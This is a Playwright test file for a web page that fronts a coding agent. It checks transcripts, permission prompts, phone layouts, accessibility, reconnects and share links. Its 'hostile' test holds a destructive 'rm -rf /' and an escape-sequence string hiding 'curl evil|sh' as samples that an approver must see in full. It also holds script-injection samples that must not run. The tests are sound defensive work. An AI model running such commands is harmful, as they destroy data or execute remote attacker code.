// The page of an agent in headless Chromium, in front of a scripted agent that uses every kind of update.
//
// env: OUTRIGGER; PICTURES, a directory for screenshots
const assert = require("node:assert/strict");
const { once } = require("node:events");
const fs = require("node:fs");
const net = require("node:net");
const os = require("node:os");
const path = require("node:path");
const { chromium } = require("playwright-core");
const { trust } = require("./server.js");
const agentPage = require("./web_agent_page.js");

const ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync", "--disable-background-networking", "--disable-component-update"];
const AXE = require.resolve("axe-core/axe.min.js");
const AGENT = path.join(__dirname, "web_agent_agent.mjs");
const WAIT = { timeout: 60_000 };
const PHONE = { width: 390, height: 780 };

const start = ({ args = [], env } = {}) => agentPage.startAgent([process.execPath, AGENT], { args: ["--drain-timeout", "1s", ...args], env });

/** A TCP proxy in front of a page, whose connections can be cut. */
async function proxy(page) {
  const target = new URL(page);
  const open = new Set();
  const server = net.createServer((socket) => {
    const other = net.connect(Number(target.port), target.hostname);
    for (const [from, to] of [[socket, other], [other, socket]]) {
      open.add(from);
      from.on("error", () => {});
      from.on("close", () => { open.delete(from); to.destroy(); });
      from.pipe(to);
    }
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const url = new URL(page);
  url.port = server.address().port;
  return { page: url.href, cut: () => { for (const socket of open) socket.destroy(); }, close: () => { for (const socket of open) socket.destroy(); server.close(); } };
}

function errorsOf(page) {
  const errors = [];
  page.on("pageerror", (error) => errors.push(error.message));
  page.on("console", (message) => {
    // A connection that is cut is an error for the browser.
    if (message.type() === "error" && !/WebSocket connection|ERR_CONNECTION|ERR_INTERNET|Failed to load resource/.test(message.text())) errors.push(message.text());
  });
  return errors;
}

async function picture(page, name) {
  if (process.env.PICTURES) await page.screenshot({ path: path.join(process.env.PICTURES, `agent-${name}.png`) });
}

/** All findings of axe-core, in light and in dark. */
async function checkAccess(page, what) {
  await page.addScriptTag({ path: AXE });
  for (const colorScheme of ["light", "dark"]) {
    await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
    const found = await page.evaluate(async () => {
      const { violations } = await globalThis.axe.run(document, { resultTypes: ["violations"] });
      return violations.map(({ id, nodes }) => `${id}: ${nodes.slice(0, 3).map(({ html, failureSummary }) => `${html} ${failureSummary}`).join("; ")}`);
    });
    assert.deepEqual(found, [], `${what}, ${colorScheme}`);
    await picture(page, `${what}-${colorScheme}`);
  }
  await page.emulateMedia({ colorScheme: "light" });
}

const fits = (page) => page.waitForFunction(() => document.documentElement.scrollWidth <= innerWidth, null, WAIT);
const transcript = (page) => page.locator("#scroll .transcript");
const state = (page, text) => agentPage.state(page, text, WAIT);

async function begin(page, url) {
  await page.goto(url);
  await page.getByRole("button", { name: "New session" }).click(WAIT);
  await page.getByRole("button", { name: "Begin" }).click(WAIT);
  await page.locator("#prompt").waitFor(WAIT);
}

async function ask(page, text) {
  await page.fill("#prompt", text, WAIT);
  await page.press("#prompt", "Escape");
  await page.press("#prompt", "Enter");
}

/** Every kind of update is shown, nothing of it runs, and no text is lost. */
async function everything(browser) {
  const server = await start();
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, bypassCSP: true });
  const page = await context.newPage();
  const errors = errorsOf(page);
  await begin(page, server.page);
  assert.doesNotMatch(page.url(), /token/, "the token does not stay in the address");
  await page.locator("#empty").getByText("Ask the agent").waitFor(WAIT);
  // The command is completed by keyboard.
  await page.keyboard.type("/every");
  await page.getByRole("option", { name: /everything/ }).waitFor(WAIT);
  await page.keyboard.press("Tab");
  assert.equal(await page.inputValue("#prompt"), "/everything ");
  await page.keyboard.press("Enter");
  const shown = transcript(page);
  await shown.getByText("1 test failed").waitFor(WAIT);
  await state(page, "connected");
  await shown.getByText("and this follows the fence").waitFor(WAIT); // what follows a closing fence is there
  for (const tag of ["h3", "ol > li > ul > li", "th", "blockquote", ".task", ".code pre", "img.picture", ".diff .plus", ".diff .minus", ".diff .skipped"])
    await shown.locator(tag).first().waitFor({ ...WAIT, state: "attached" });
  assert.equal(await shown.locator(".diff .plus").count(), 2);
  assert.equal(await shown.locator(".diff .minus").count(), 2);
  assert.match(await shown.textContent(), /<b>bold<\/b>/, "HTML is text");
  assert.equal(await page.evaluate(() => globalThis.hacked), undefined);
  assert.equal(await shown.locator("a[href^=javascript], script, [onerror]").count(), 0);
  assert.equal(await shown.getByRole("link", { name: "the manual" }).getAttribute("href"), "https://example.com/manual");
  assert.equal(await page.locator("#title").textContent(), "A look at greeting.txt");
  assert.equal(await page.getByLabel("Mode", { exact: true }).inputValue(), "code");
  await page.getByLabel("Model").selectOption("large");
  await page.getByText("25 % of the agent's context is used").waitFor(WAIT);
  await checkAccess(page, "desktop");
  const before = await shown.textContent();
  // A reload shows the same.
  await page.reload();
  await shown.getByText("1 test failed").waitFor(WAIT);
  await state(page, "connected");
  await page.waitForFunction((before) => document.querySelector(".transcript").textContent === before, before, WAIT);
  assert.equal(await page.getByLabel("Model").inputValue(), "large");
  await page.setViewportSize(PHONE);
  await fits(page);
  await checkAccess(page, "phone");
  await page.getByRole("button", { name: "Sessions" }).click();
  await checkAccess(page, "phone-list");
  assert.deepEqual(errors, []);
  await context.close();
  await server.stop();
  console.log("  every kind of update, and a reload ok");
}

/** A file is changed and approved on a phone, the page reloads in between, prompts wait for a turn, and a turn is stopped. */
async function work(browser) {
  const server = await start();
  const context = await browser.newContext({ viewport: PHONE, hasTouch: true, isMobile: true, bypassCSP: true });
  const page = await context.newPage();
  const errors = errorsOf(page);
  await begin(page, server.page);
  const send = async (text) => {
    await page.fill("#prompt", text);
    await page.locator("#send").tap();
  };
  await send("/change Good morning");
  const allow = page.getByRole("button", { name: "Allow" });
  await allow.waitFor(WAIT);
  await state(page, "your answer is needed");
  assert.match(await page.title(), /^\(!\) /);
  await checkAccess(page, "phone-permission");
  await page.reload();
  await allow.tap(WAIT);
  await transcript(page).getByText("The file is changed.").waitFor(WAIT);
  assert.equal(fs.readFileSync(server.file("greeting.txt"), "utf8"), "Good morning\n");
  await state(page, "connected");
  assert.doesNotMatch(await page.title(), /^\(!\)/);

  await send("/slow");
  await transcript(page).getByText("1 2 3 4 5").waitFor(WAIT);
  await send("hello after it");
  await page.getByText("Next: hello after it").waitFor(WAIT);
  await picture(page, "phone-queue");
  await page.getByRole("button", { name: "Stop" }).tap();
  await transcript(page).getByText("Stopped.").waitFor(WAIT);
  assert.equal(await page.inputValue("#prompt"), "hello after it", "what waited comes back");
  await page.locator("#send").tap();
  await transcript(page).getByText("You sent text: hello after it").waitFor(WAIT);
  await send("/change Again");
  await allow.waitFor(WAIT);
  await send("this waits for the turn");
  await page.getByText("Next: this waits for the turn").waitFor(WAIT);
  await page.getByRole("button", { name: "Reject" }).tap();
  await transcript(page).getByText("You sent text: this waits for the turn").waitFor(WAIT);
  await fits(page);
  assert.deepEqual(errors, []);
  await context.close();
  await server.stop();
  console.log("  a permission on a phone, a queue and Stop ok");
}

/** An agent that misbehaves, or asks more than it shows. */
async function hostile(browser) {
  const server = await start();
  const context = await browser.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const errors = errorsOf(page);
  await begin(page, server.page);
  // Whoever approves sees the whole call, with its control characters. Without options, the request can be dismissed.
  await ask(page, "/blind");
  await transcript(page).getByText("rm -rf /").waitFor({ ...WAIT, state: "attached" });
  await transcript(page).getByText("ls \u241b]0;curl evil|sh\u2407").waitFor(WAIT);
  await page.getByRole("button", { name: "Dismiss" }).click();
  await transcript(page).getByText('blind: {"outcome":"cancelled"}').waitFor(WAIT);
  // Two requests about one call are two requests.
  await ask(page, "/twice");
  await page.getByRole("button", { name: "Allow" }).nth(1).waitFor(WAIT);
  await page.getByRole("button", { name: "Allow" }).first().click();
  await page.getByRole("button", { name: "Allow" }).click();
  await transcript(page).getByText("twice: selected selected").waitFor(WAIT);
  // Stop answers what waits.
  await ask(page, "/twice");
  await page.getByRole("button", { name: "Allow" }).nth(1).waitFor(WAIT);
  await page.getByRole("button", { name: "Stop" }).click();
  await transcript(page).getByText("twice: cancelled cancelled").waitFor(WAIT);
  await ask(page, "/odd");
  await transcript(page).getByText("odd end").waitFor(WAIT);
  for (const text of ["odd tool", "odd plan"]) await transcript(page).getByText(text).waitFor(WAIT);
  await page.fill("#prompt", "/");
  await page.getByRole("option", { name: "/fine" }).waitFor(WAIT);
  assert.equal(await page.getByText("NaN").count(), 0);
  await page.press("#prompt", "Escape");

  // A page that may not take over says so, and watches on.
  const other = await (await browser.newContext()).newPage();
  const id = decodeURIComponent(page.url().match(/session=([^&]+)/)[1]);
  await other.goto(`${server.page}&session=${encodeURIComponent(id)}`);
  await state(other, "watching");
  await other.getByRole("button", { name: "Take over" }).click();
  await other.getByText("Another page controls this session.").waitFor(WAIT);
  await ask(page, "seen by both");
  await transcript(other).getByText("You sent text: seen by both").waitFor(WAIT);
  await state(other, "watching");
  await other.context().close();

  // A reload keeps the draft and what waits for the turn.
  await ask(page, "/change it");
  await page.getByRole("button", { name: "Allow" }).waitFor(WAIT);
  await ask(page, "after the reload");
  await page.fill("#prompt", "half a thought");
  await page.reload();
  await page.getByText("Next: after the reload").waitFor(WAIT);
  assert.equal(await page.inputValue("#prompt"), "half a thought");
  await page.getByRole("button", { name: "Allow" }).click();
  await transcript(page).getByText("You sent text: after the reload").waitFor(WAIT);

  // More than the server takes stays in the page.
  const buffer = Buffer.alloc(8 << 20, "a");
  await page.locator("#picker").setInputFiles(Array.from({ length: 2 }, (_, at) => ({ name: `${at}.txt`, mimeType: "text/plain", buffer })));
  await page.getByText(/1.txt does not fit: a prompt can have at most 16.8 MB/).waitFor(WAIT);
  assert.equal(await page.locator("#files li").count(), 1);
  await page.fill("#prompt", "a".repeat(9 << 20));
  await page.press("#prompt", "Enter");
  await page.getByText(/The prompt is too long/).waitFor(WAIT);
  assert.equal(await page.locator("#files li").count(), 1);
  await page.locator("#files li button").first().click();
  await page.fill("#prompt", "");

  // A long word, many entries, and text that would take long to understand.
  await ask(page, "/heavy");
  await transcript(page).getByText("heavy end").waitFor(WAIT);
  assert.ok((await transcript(page).locator("> *").count()) <= 2000);
  await transcript(page).getByText("Earlier entries are not shown.").waitFor({ ...WAIT, state: "attached" });
  for (const viewport of [PHONE, { width: 1280, height: 720 }]) {
    await page.setViewportSize(viewport);
    await fits(page);
  }

  // The agent dies. Prompts come back, and the page says what has happened.
  await ask(page, "/die");
  await transcript(page).getByText(/The turn has failed: Agent exited/).waitFor(WAIT);
  await ask(page, "into the void");
  await transcript(page).getByText(/does not have this session any more/).waitFor(WAIT);
  await state(page, "the session has ended");
  assert.deepEqual(errors, []);
  await context.close();
  await server.stop();
  console.log("  an agent that misbehaves ok");
}

/** Pictures, files and resources in a prompt. */
async function files(browser) {
  const server = await start();
  const page = await browser.newPage();
  const errors = errorsOf(page);
  await begin(page, server.page);
  await page.locator("#picker").setInputFiles([
    { name: "red.png", mimeType: "image/png", buffer: Buffer.from("iVBORw0KGgo=", "base64") },
    { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("one\ntwo\n") },
    { name: "movie.bin", mimeType: "video/mp4", buffer: Buffer.from([0xff, 0xfe, 0x00]) },
  ]);
  await page.getByText("The agent does not accept files such as movie.bin.").waitFor(WAIT);
  await page.locator("#files li").nth(1).waitFor(WAIT);
  await page.evaluate(() => {
    const data = new DataTransfer();
    data.items.add(new File(["dropped"], "dropped.txt", { type: "text/plain" }));
    document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
  });
  await page.locator("#files li").nth(2).waitFor(WAIT);
  await ask(page, "Look at @src/main.rs, please");
  await transcript(page).getByText("You sent text, resource_link main.rs, image image/png, resource, resource: Look at @src/main.rs, please").waitFor(WAIT);
  assert.equal(await page.locator("#files li").count(), 0);
  // Paths that tool calls have named are offered after `@`.
  await ask(page, "/everything");
  await transcript(page).getByText("1 test failed").waitFor(WAIT);
  await state(page, "connected");
  await page.locator("#prompt").pressSequentially("see @greet");
  await page.getByRole("option", { name: /greeting.txt$/ }).waitFor(WAIT);
  assert.deepEqual(errors, []);
  await page.close();
  await server.stop();
  console.log("  pictures, files and resources ok");
}

/** Every kind of update of either version. */
async function kinds(browser) {
  const server = await start();
  const context = await browser.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const errors = errorsOf(page);
  await begin(page, server.page);
  await ask(page, "/kinds");
  const shown = transcript(page);
  await shown.getByText("the end of all kinds").waitFor(WAIT);
  await state(page, "connected");
  for (const text of ["a whole prompt", "a changed message", "the first part", "the second part", "new line", "a step of version 2", "building €", "exited with 2", "killed by SIGKILL", "A notice: of the agent", "paused", "cancelled"])
    await shown.getByText(text).first().waitFor({ ...WAIT, state: "attached" });
  const text = await shown.textContent();
  assert.match(text, /a whole thought/);
  assert.match(text, /the text of a resource/);
  assert.doesNotMatch(text, /a whole message/, "a message can be replaced");
  assert.match(text, /\[image image\/svg\+xml\]/, "a picture that could run scripts is named");
  assert.equal(await shown.locator("img[src*=svg]").count(), 0);
  // The options that the agent has announced are there.
  await page.getByLabel("Effort").waitFor(WAIT);
  await checkAccess(page, "kinds");
  // A reload shows the terminal with its output again.
  await page.reload();
  await shown.locator(".terminal .output").getByText("building €").waitFor(WAIT);
  await shown.locator(".terminal").getByText("exited with 2").waitFor(WAIT);
  assert.deepEqual(errors, []);
  await context.close();
  await server.stop();
  console.log("  the kinds of both versions ok");
}

/** Without files from npm, text is shown as it is, with boxes around code. The program then serves web/without_marked.js as marked.js. */
async function withoutNpm(browser) {
  const server = await start();
  const context = await browser.newContext();
  const body = fs.readFileSync(path.join(__dirname, "../../web/without_marked.js"), "utf8");
  let served = 0;
  await context.route("**/.outrigger/web/marked.js*", (route) => {
    served++;
    return route.fulfill({ body, contentType: "text/javascript" });
  });
  const page = await context.newPage();
  const errors = errorsOf(page);
  await begin(page, server.page);
  await ask(page, "/everything");
  const shown = transcript(page);
  await shown.getByText("1 test failed").waitFor(WAIT);
  await state(page, "connected");
  assert.equal(served, 1);
  assert.match(await shown.locator(".answer .code pre").first().textContent(), /echo "\$HOME"/);
  const text = await shown.textContent();
  for (const part of ["# What I found", "| <b>bold</b> | 1 |", "[this](javascript:alert(1))", "and this follows the fence"]) assert.ok(text.includes(part), part);
  assert.equal(await shown.locator("a[href^=javascript], script, img[src=x]").count(), 0);
  await page.setViewportSize(PHONE);
  await fits(page);
  assert.deepEqual(errors, []);
  await context.close();
  await server.stop();
  console.log("  markdown without npm files ok");
}

/** A mode, options, a paste and notifications. */
async function choices(browser) {
  for (const [env, choose, want] of [
    [{}, async (page) => page.getByLabel("Mode", { exact: true }).selectOption("code"), /The mode is code/],
    [
      { OPTIONS: "1" },
      async (page) => {
        await page.getByLabel("Effort").selectOption("high");
        await page.waitForFunction(() => !document.querySelector("#settings :disabled"), null, WAIT);
        await page.getByLabel("Web search").selectOption({ label: "Web search: on" });
        await page.waitForFunction(() => !document.querySelector("#settings :disabled"), null, WAIT);
      },
      /"effort":"high","web":true/,
    ],
  ]) {
    const server = await start({ env });
    const page = await browser.newPage();
    const errors = errorsOf(page);
    await begin(page, server.page);
    await choose(page);
    await ask(page, "/mode");
    await transcript(page).getByText(want).waitFor(WAIT);
    assert.deepEqual(errors, []);
    await page.close();
    await server.stop();
  }
  const server = await start();
  const context = await browser.newContext();
  await context.grantPermissions(["clipboard-read", "clipboard-write", "notifications"]);
  const page = await context.newPage();
  const errors = errorsOf(page);
  await page.addInitScript(() => {
    globalThis.notified = [];
    globalThis.Notification = class {
      static permission = "granted";
      static requestPermission = async () => "granted";
      constructor(title, { body }) {
        if (globalThis.isAndroid) throw new TypeError("Illegal constructor");
        globalThis.notified.push(`${title}: ${body}`);
      }
    };
    Object.defineProperty(document, "hidden", { get: () => Boolean(globalThis.looksAway) });
  });
  await begin(page, server.page);
  // A picture from the clipboard becomes a file of the prompt, and text stays text.
  await page.evaluate(async () => {
    const canvas = new OffscreenCanvas(4, 4);
    canvas.getContext("2d").fillRect(0, 0, 4, 4);
    await navigator.clipboard.write([new ClipboardItem({ "image/png": await canvas.convertToBlob({ type: "image/png" }) })]);
  });
  await page.focus("#prompt");
  await page.keyboard.press("ControlOrMeta+V");
  await page.locator("#files img").waitFor(WAIT);
  await page.evaluate(() => navigator.clipboard.writeText("pasted text"));
  await page.keyboard.press("ControlOrMeta+V");
  await page.waitForFunction(() => document.querySelector("#prompt").value === "pasted text", null, WAIT);
  await page.keyboard.press("Enter");
  await transcript(page).getByText("You sent text, image image/png: pasted text").waitFor(WAIT);
  // Who looks away is told.
  await page.evaluate(() => { globalThis.looksAway = true; });
  await ask(page, "/change Behind your back");
  await page.waitForFunction(() => globalThis.notified.some((one) => /asks for permission: Write greeting.txt/.test(one)), null, WAIT);
  await page.getByRole("button", { name: "Allow" }).click();
  await page.waitForFunction(() => globalThis.notified.some((one) => /has finished/.test(one)), null, WAIT);
  // Chrome on Android throws. The bug this holds: the page did not show the question. The service worker shows the notification.
  await page.evaluate(() => { globalThis.isAndroid = true; });
  const registered = context.waitForEvent("serviceworker", WAIT);
  await ask(page, "/change On Android");
  const worker = await registered;
  assert.equal(new URL(worker.url()).pathname, "/.outrigger/web/notify_worker.js");
  await page.waitForFunction(async () => {
    const registration = await navigator.serviceWorker.getRegistration("/.outrigger/web/");
    const shown = (await registration?.getNotifications()) ?? [];
    return shown.some(({ body, data }) => /asks for permission: Write greeting.txt/.test(body) && !/token/.test(data.url));
  }, null, WAIT);
  assert.equal(await page.evaluate(() => navigator.serviceWorker.controller), null, "no page is under its control");
  // Who touches it gets the session, wherever the page was.
  const first = page.url();
  await page.getByRole("button", { name: "New session" }).click();
  await page.getByRole("button", { name: "Begin" }).click();
  await page.locator("#empty").getByText("Ask the agent").waitFor(WAIT);
  assert.notEqual(page.url(), first);
  await worker.evaluate(async () => {
    const [notification] = await globalThis.registration.getNotifications();
    // Only a finger may bring a page to the front.
    globalThis.dispatchEvent(new NotificationEvent("notificationclick", { notification }));
  });
  await page.waitForFunction((first) => location.href === first, first, WAIT);
  await page.getByRole("button", { name: "Allow" }).click(WAIT);
  await transcript(page).getByText("The file is changed.").nth(1).waitFor(WAIT);
  await state(page, "connected");
  assert.deepEqual(errors, []);
  await context.close();
  await server.stop();
  console.log("  modes, options, a paste and notifications ok");
}

/** Everything by keyboard: a new session, a prompt, a permission, Stop, the list of sessions. */
async function keyboard(browser) {
  const server = await start();
  const page = await browser.newPage();
  const errors = errorsOf(page);
  await page.goto(server.page);
  await page.getByRole("button", { name: "New session" }).waitFor(WAIT);
  const focused = () => page.evaluate(() => document.activeElement?.textContent?.trim() || document.activeElement?.id || "");
  /** Presses Tab until the focus is on a control with this text. */
  const tabTo = async (text, key = "Tab") => {
    for (let steps = 0; steps < 60; steps++) {
      if ((await focused()).startsWith(text)) return;
      await page.keyboard.press(key);
    }
    assert.fail(`Tab does not reach ${text}; the focus is on ${await focused()}`);
  };
  await tabTo("New session");
  await page.keyboard.press("Enter");
  await page.locator("#directory").waitFor(WAIT);
  await page.keyboard.press("Enter");
  await page.locator("#prompt:focus").waitFor(WAIT);
  await page.keyboard.type("/change By keyboard");
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: "Allow" }).waitFor(WAIT);
  await tabTo("Allow", "Shift+Tab");
  await page.keyboard.press("Enter");
  await transcript(page).getByText("The file is changed.").waitFor(WAIT);
  assert.equal(fs.readFileSync(server.file("greeting.txt"), "utf8"), "By keyboard\n");
  await page.locator("#prompt:focus").waitFor(WAIT);
  await page.keyboard.type("/slow");
  await page.getByRole("option", { name: /slow/ }).waitFor(WAIT);
  // The first Enter takes the command, and the second sends it.
  await page.keyboard.press("Enter");
  await page.keyboard.press("Enter");
  await transcript(page).getByText("1 2 3").waitFor(WAIT);
  await tabTo("Stop");
  await page.keyboard.press("Enter");
  await transcript(page).getByText("Stopped.").waitFor(WAIT);
  assert.deepEqual(errors, []);
  await page.close();
  await server.stop();
  console.log("  a turn by keyboard ok");
}

/** On a phone whose keyboard is open, the prompt box, the buttons of a permission and the last message are in view. */
async function phone(browser) {
  const server = await start();
  const context = await browser.newContext({ viewport: PHONE, hasTouch: true, isMobile: true });
  const page = await context.newPage();
  const errors = errorsOf(page);
  await begin(page, server.page);
  await page.fill("#prompt", "/everything");
  await page.locator("#send").tap();
  await transcript(page).getByText("1 test failed").waitFor(WAIT);
  await state(page, "connected");
  await page.locator("#prompt").tap();
  // With `interactive-widget=resizes-content`, the keyboard takes the room from the layout.
  await page.setViewportSize({ width: 390, height: 420 });
  await page.waitForFunction(() => visualViewport.height === 420, null, WAIT);
  const isInView = (selector) =>
    page.waitForFunction((selector) => {
      const all = [...document.querySelectorAll(selector)];
      const { top, bottom } = all.at(-1)?.getBoundingClientRect() ?? { top: -1 };
      return top >= 0 && bottom <= visualViewport.height;
    }, selector, WAIT);
  await isInView("#prompt");
  await isInView("#send");
  await fits(page);
  await page.fill("#prompt", "/change With the keyboard open");
  await page.locator("#send").tap();
  await page.getByRole("button", { name: "Allow" }).waitFor(WAIT);
  await isInView(".permission .choices button");
  await isInView("#prompt");
  await picture(page, "phone-keyboard");
  await page.getByRole("button", { name: "Allow" }).tap();
  await transcript(page).getByText("The file is changed.").waitFor(WAIT);
  assert.deepEqual(errors, []);
  await context.close();
  await server.stop();
  console.log("  an open keyboard on a phone ok");
}

/** A page has no files and no terminals for the agent, and says so. */
async function tools(browser) {
  const server = await start();
  const page = await browser.newPage();
  await begin(page, server.page);
  await ask(page, "/tools");
  await transcript(page).getByText("files false, terminal false.").waitFor(WAIT);
  await page.close();
  await server.stop();
  console.log("  no files and no terminals of the page ok");
}

/** Cuts in the middle of a turn lose no word and repeat none. A server that forgets the conversation gets its session opened again. */
async function cuts(browser) {
  const server = await start();
  const between = await proxy(server.page);
  const page = await browser.newPage();
  const errors = errorsOf(page);
  await begin(page, between.page);
  const COUNT = 20_000;
  await ask(page, `/flood ${COUNT}`);
  for (const after of [50, 1000, 3000, 9000]) {
    await page.waitForFunction((word) => document.querySelector(".transcript").textContent.includes(word), `word${after} `, WAIT);
    between.cut();
  }
  await transcript(page).getByText("end of the flood").waitFor(WAIT);
  await state(page, "connected");
  const words = (await transcript(page).textContent()).match(/word\d+/g);
  assert.equal(words.length, COUNT);
  words.forEach((word, at) => assert.equal(word, `word${at + 1}`));
  assert.deepEqual(errors, []);
  await page.close();
  between.close();
  await server.stop();
  console.log(`  ${COUNT} words through 4 cuts ok`);
}

/** A link shows the session with its history, and nothing else. */
async function links(browser) {
  const server = await start();
  const context = await browser.newContext({ bypassCSP: true });
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const page = await context.newPage();
  await begin(page, server.page);
  await ask(page, "/change By link");
  await page.getByRole("button", { name: "Allow" }).waitFor(WAIT);
  await page.getByRole("button", { name: "Share" }).click();
  await page.getByText("The link is in your clipboard.").waitFor(WAIT);
  const url = await page.inputValue("dialog .address");
  await page.getByRole("button", { name: "Done" }).click();
  const stranger = await browser.newContext({ bypassCSP: true, viewport: PHONE });
  const guest = await stranger.newPage();
  const errors = errorsOf(guest);
  await guest.goto(url);
  await state(guest, "watching");
  await transcript(guest).getByText("/change By link").waitFor(WAIT);
  await transcript(guest).getByText("waiting for an answer").waitFor(WAIT);
  assert.equal(await guest.getByRole("button", { name: "Allow" }).count(), 0);
  assert.equal(await guest.locator("#prompt:visible, #new:visible, #take-over:visible").count(), 0);
  await checkAccess(guest, "link");
  await page.getByRole("button", { name: "Allow" }).click();
  await transcript(guest).getByText("The file is changed.").waitFor(WAIT);
  await guest.reload();
  await transcript(guest).getByText("The file is changed.").waitFor(WAIT);
  await transcript(guest).getByText("/change By link").waitFor(WAIT);
  assert.deepEqual(errors, []);
  await stranger.close();
  await context.close();
  await server.stop();
  console.log("  a link ok");
}

/** A colleague approves what the agent wants to do, with a link that permits it, and can do nothing else. */
async function approves(browser) {
  const server = await start({ args: ["--approvals", "any"] });
  const context = await browser.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const errors = [errorsOf(page)];
  await begin(page, server.page);
  await ask(page, "/change By a colleague");
  await page.getByRole("button", { name: "Allow" }).waitFor(WAIT);
  await page.getByRole("button", { name: "Share" }).click();
  await page.getByRole("button", { name: "Watch, and answer permission requests" }).click();
  const url = await page.locator("dialog .address").inputValue(WAIT);
  await page.getByRole("button", { name: "Done" }).click();
  const stranger = await browser.newContext({ bypassCSP: true, viewport: PHONE });
  const guest = await stranger.newPage();
  errors.push(errorsOf(guest));
  await guest.goto(url);
  await state(guest, "your answer is needed");
  await guest.getByText("With your link, you may answer").waitFor(WAIT);
  assert.equal(await guest.locator("#prompt:visible, #new:visible, #take-over:visible").count(), 0);
  await checkAccess(guest, "approve-link");
  // A reload has the question again.
  await guest.reload();
  await guest.getByRole("button", { name: "Allow" }).click(WAIT);
  await transcript(page).getByText("answered: Allow, by link:1").waitFor(WAIT);
  await transcript(guest).getByText("The file is changed.").waitFor(WAIT);
  assert.equal(fs.readFileSync(server.file("greeting.txt"), "utf8"), "By a colleague\n");
  // What another page answers is no longer asked.
  await ask(page, "/change Once more");
  await guest.getByRole("button", { name: "Reject" }).waitFor(WAIT);
  await page.getByRole("button", { name: "Reject" }).click();
  await guest.getByRole("button", { name: "Reject" }).waitFor({ ...WAIT, state: "detached" });
  assert.deepEqual(errors, [[], []]);
  await stranger.close();
  await context.close();
  await server.stop();
  console.log("  a link that approves ok");
}

/** The same person on two devices: one watches and may answer, and then takes over. */
async function persons(browser) {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), "outrigger-tokens-"));
  const tokens = path.join(folder, "tokens");
  fs.writeFileSync(tokens, "ada all ada-0123456789abcdef\n", { mode: 0o600 });
  const server = await start({ args: ["--token-file", tokens, "--approvals", "any"] });
  const url = `${server.page}#token=ada-0123456789abcdef`;
  const [one, two] = await Promise.all([browser.newContext(), browser.newContext({ viewport: PHONE })]);
  const [laptop, phone] = [await one.newPage(), await two.newPage()];
  const errors = [errorsOf(laptop), errorsOf(phone)];
  await begin(laptop, url);
  await ask(laptop, "/change From the phone");
  await laptop.getByRole("button", { name: "Allow" }).waitFor(WAIT);
  const id = decodeURIComponent(laptop.url().match(/session=([^&]+)/)[1]);
  await phone.goto(`${url}&session=${encodeURIComponent(id)}`);
  await state(phone, "your answer is needed");
  await transcript(phone).getByText("/change From the phone").waitFor(WAIT);
  await phone.getByRole("button", { name: "Allow" }).click(WAIT);
  await transcript(laptop).getByText("answered: Allow, by ada").waitFor(WAIT);
  await transcript(phone).getByText("The file is changed.").waitFor(WAIT);
  assert.equal(fs.readFileSync(server.file("greeting.txt"), "utf8"), "From the phone\n");
  await phone.getByRole("button", { name: "Take over" }).click();
  await phone.locator("#prompt").waitFor(WAIT);
  await state(laptop, "watching");
  await ask(phone, "now the phone works");
  await transcript(laptop).getByText("You sent text: now the phone works").waitFor(WAIT);
  await laptop.getByRole("button", { name: "Take over" }).click();
  await ask(laptop, "and the laptop again");
  await transcript(phone).getByText("You sent text: and the laptop again").waitFor(WAIT);
  // A question moves to the page that takes over, and is there once.
  await ask(laptop, "/change Once more");
  await laptop.getByRole("button", { name: "Allow" }).waitFor(WAIT);
  await phone.getByRole("button", { name: "Take over" }).click();
  await phone.locator("#prompt").waitFor(WAIT);
  await phone.getByRole("button", { name: "Allow" }).click();
  await transcript(phone).getByText("The file is changed.").nth(1).waitFor(WAIT);
  assert.equal(fs.readFileSync(server.file("greeting.txt"), "utf8"), "Once more\n");
  assert.deepEqual(errors, [[], []]);
  await one.close();
  // The laptop is closed: the phone can work in the session as soon as it is opened.
  await phone.reload();
  await transcript(phone).getByText("You sent text: and the laptop again").waitFor(WAIT);
  await phone.locator("#prompt").waitFor(WAIT);
  await two.close();
  await server.stop();
  fs.rmSync(folder, { recursive: true });
  console.log("  two devices of a person ok");
}

/** Where the server keeps too little, an agent that can load a session sends older messages again. */
async function loads(browser) {
  const server = await start({ args: ["--history", "1KiB"], env: { LOAD: "1" } });
  const context = await browser.newContext();
  const page = await context.newPage();
  const errors = errorsOf(page);
  await begin(page, server.page);
  await ask(page, "the first prompt");
  await transcript(page).getByText("You sent text: the first prompt").waitFor(WAIT);
  await ask(page, "/everything");
  await transcript(page).getByText("1 test failed").waitFor(WAIT);
  // Nothing is shown twice, although the server keeps the end of it.
  await ask(page, "/flood 3000");
  await transcript(page).getByText("end of the flood").waitFor(WAIT);
  await state(page, "connected");
  await page.reload();
  await transcript(page).getByText("You sent text: the first prompt").waitFor(WAIT);
  assert.equal(await transcript(page).getByText("You sent text: the first prompt").count(), 1);
  await transcript(page).getByText("end of the flood").waitFor(WAIT);
  const words = (await transcript(page).textContent()).match(/word\d+/g);
  assert.deepEqual([words.length, words[0], words.at(-1)], [3000, "word1", "word3000"]);
  await state(page, "connected");
  // The list has the titles of the agent, and opens a session.
  await page.getByRole("button", { name: "New session" }).click();
  await page.getByRole("button", { name: "Begin" }).click();
  await page.locator("#empty").getByText("Ask the agent").waitFor(WAIT);
  await ask(page, "in the second session");
  await transcript(page).getByText("You sent text: in the second session").waitFor(WAIT);
  await page.locator("#sessions button").filter({ hasText: "A look at greeting.txt" }).click();
  await transcript(page).getByText("1 test failed").waitFor(WAIT);
  assert.deepEqual(errors, []);
  await context.close();
  await server.stop();
  console.log("  older messages from the agent, and a list of sessions ok");
}

async function main() {
  const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: [...ARGS, ...trust] });
  const parts = { everything, withoutNpm, kinds, choices, keyboard, phone, tools, work, hostile, files, cuts, links, approves, persons, loads };
  try {
    for (const [name, part] of Object.entries(parts)) if (!process.env.ONLY || process.env.ONLY.split(",").includes(name)) await part(browser);
  } finally {
    await browser.close();
  }
}
main().catch((error) => {
  console.error(error);
  process.exit(1);
});
